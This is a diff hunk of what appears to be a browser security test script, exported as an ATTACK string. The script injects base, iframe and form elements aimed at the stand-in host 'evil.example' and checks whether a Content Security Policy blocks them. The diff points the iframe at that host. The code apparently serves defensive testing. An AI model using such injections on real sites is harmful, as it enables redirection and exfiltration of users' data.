@@ -40,7 +40,7 @@ export const ATTACK = `(async () => {
     put('base', (base) => (base.href = 'https://evil.example/'));
     return new URL('x', document.baseURI).origin === location.origin ? 'ours' : document.baseURI;
   });
-  attempt('frame', () => void put('iframe', (frame) => (frame.src = location.href)));
+  attempt('frame', () => void put('iframe', (frame) => (frame.src = 'https://evil.example/')));
   attempt('form', () => put('form', (form) => (form.action = 'https://evil.example/')).submit());
   // Browsers tell of a form last, and not at once.
   for (let look = 0; look < 100 && !broken.has('form-action'); look += 1) {
